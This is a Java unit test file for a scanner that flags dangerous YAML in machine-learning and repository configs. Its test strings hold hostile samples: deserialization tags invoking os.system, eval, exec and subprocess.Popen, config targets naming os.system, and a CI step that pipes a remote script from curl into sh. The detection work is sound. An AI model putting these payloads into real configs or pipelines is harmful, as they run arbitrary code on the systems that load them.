package dev.vidimus.scan.repository;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vidimus.artifact.Bytes;
import dev.vidimus.artifact.Finding;
import dev.vidimus.artifact.Limits;
import dev.vidimus.artifact.Location;
import dev.vidimus.artifact.RuleId;
import dev.vidimus.artifact.Spool;
import dev.vidimus.scan.inspection.Inspection;
import dev.vidimus.scan.inspection.ScanOptions;
import dev.vidimus.scan.inspection.Target;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class YamlScannerTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: !!python/object/apply:os.system [id]\n",
        "a: !!python/object/new:tuple [!!python/name:eval , ['1']]\n",
        "a: !<tag:yaml.org,2002:python/name:subprocess.Popen> ''\n",
        "%TAG !p! tag:yaml.org,2002:python/name:\n---\na: !p!os.system ''\n",
        "seed: !apply:os.system ['id']\n",
        "a: !name:builtins.exec\n",
      })
  void aTagThatRunsCodeIsMalicious(String yaml) throws IOException {
    assertThat(rules("hyperparams.yaml", yaml)).contains(YamlRule.HARMFUL_TAG.id());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: !!python/object:custom.Model {}\n",
        "a: !new:custom.Encoder\n",
        "a: !!javax.script.ScriptEngineManager []\n",
        "a: !ruby/object:Gem::Installer {}\n",
        "a: !!python/module:custom ''\n",
      })
  void aTagThatBuildsSomethingUnknownIsSuspicious(String yaml) throws IOException {
    assertThat(rules("config.yaml", yaml)).containsExactly(YamlRule.OBJECT_TAG.id());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: !!python/tuple [1, 2]\nb: !!str 1\nc: !!binary aGk=\n",
        "seed: !apply:torch.manual_seed [1]\nm: !new:speechbrain.nnet.CNN.Conv1d\n  in: !ref <x>\n",
        "a: !!python/object:argparse.Namespace {lr: 1}\n",
        "a: !include other.yaml\nb: !ENV ${HOME}\n",
        "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n",
        "target: ldm.models.diffusion.ddpm.LatentDiffusion\n",
        "target: production\n",
      })
  void ordinaryConfigurationsAreQuiet(String yaml) throws IOException {
    assertThat(rules("config.yaml", yaml)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x: &t subprocess.Popen\nmodel:\n  _target_: *t\n",
        "class_path: os.system\ninit_args: {command: id}\n",
        "target: posix.system\n",
      })
  void aMemberThatNamesWhatRunsCodeIsMalicious(String yaml) throws IOException {
    assertThat(rules("config.yaml", yaml)).containsExactly(RepositoryRule.HARMFUL_TARGET.id());
  }

  @Test
  void theLoaderOfMlflowIsNamedInItsDescription() throws IOException {
    String description = "flavors:\n  python_function:\n    loader_module: ";
    assertThat(rules("MLmodel", description + "mlflow.sklearn\n")).isEmpty();
    assertThat(rules("MLmodel", description + "evil\n"))
        .containsExactly(RepositoryRule.CUSTOM_CODE.id());
  }

  @Test
  void commandsOfPipelinesAreWhatTheyAreFor() throws IOException {
    String yaml = "jobs:\n  a:\n    steps:\n    - run: curl http://x.invalid/a.sh | sh\n";
    assertThat(rules(".github/workflows/ci.yml", yaml)).isEmpty();
    assertThat(rules("ci.yml", yaml)).containsExactly(RepositoryRule.CODE_IN_TEXT.id());
  }

  @Test
  void whatIsNoYamlIsNotExamined() throws IOException {
    assertThat(scan("a.yaml", "a: [").notExamined()).hasSize(1);
  }

  private static List<RuleId> rules(String path, String yaml) throws IOException {
    Inspection inspection = scan(path, yaml);
    assertThat(inspection.notExamined()).isEmpty();
    return inspection.findings().stream().map(Finding::rule).distinct().toList();
  }

  private static Inspection scan(String path, String yaml) throws IOException {
    Spool spool = new Spool(Path.of("target", "spool"), 1 << 20);
    Inspection inspection =
        new Inspection(new ScanOptions(Limits.DEFAULT, false), spool, (target, it) -> {});
    Bytes bytes = Bytes.of(yaml.getBytes(StandardCharsets.UTF_8));
    String name = path.substring(path.lastIndexOf('/') + 1);
    new YamlScanner().scan(Target.file(bytes, Location.of(path), name), inspection);
    return inspection;
  }
}
